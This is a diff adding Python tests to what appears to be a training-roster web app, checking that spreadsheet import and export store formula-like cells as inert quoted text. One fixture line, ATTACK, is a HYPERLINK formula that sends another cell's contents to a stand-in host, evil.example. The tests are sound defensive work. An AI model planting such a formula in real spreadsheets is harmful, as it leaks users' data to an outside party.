@@ -304,3 +304,46 @@ def test_roster_import_adds_people_all_or_nothing(db, client, login_as, create_t
     page = response.get_data(as_text=True)
     assert response.status_code == 200 and "chưa có họ tên" in page and "giới tính ghi F" in page
     assert db.session.scalar(sa.select(sa.func.count(Participant.id))) == 3
+
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"Bấm để xem")'
+
+
+def test_formula_like_texts_are_exported_as_text(db, trainer, units, create_topic):
+    """A name, venue or question text typed as a formula comes out as inert text, and imports back."""
+    create_topic("+Lừa đảo")
+    book = sheets(training=[["title", "@SUM(1+1)"], ["topic", "+Lừa đảo"], ["start_date", "2025-10-05"],
+                            ["venue", "-2+3"]])
+    book["participants"][1][1] = ATTACK
+    book["questions"][1][1] = "+Có nên cho mã OTP?"
+    from app.xlsx import append_row
+
+    typed = Workbook()
+    typed.remove(typed.active)
+    for name, rows in book.items():
+        ws = typed.create_sheet(name)
+        for row in rows:
+            append_row(ws, row)  # as typed in Excel with a leading quote
+    data = io.BytesIO()
+    typed.save(data)
+    training = services.import_workbook(data.getvalue(), user=trainer, unit=units["02086"])
+    db.session.commit()
+    exported = services.export_workbook(training, user=trainer)
+    wb = load_workbook(io.BytesIO(exported))
+    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (ATTACK, "@SUM(1+1)", "+Lừa đảo", "-2+3", "+Có nên cho mã OTP?"):
+        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
+    assert not [c for c in cells.values() if c.data_type == "f"]
+    again = services.import_workbook(exported, user=trainer, unit=units["02086"])
+    assert ATTACK in {p.person.full_name for p in again.participants}
+
+
+def test_append_row_keeps_every_formula_start_as_text():
+    from app.xlsx import append_row
+
+    wb = Workbook()
+    append_row(wb.active, ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "bình thường", 5, None])
+    assert [c.data_type for c in wb.active[1]] == ["s"] * 7 + ["n", "n"]
+    out = io.BytesIO()
+    wb.save(out)
+    assert [c.data_type for c in load_workbook(io.BytesIO(out.getvalue())).active[1]][:6] == ["s"] * 6
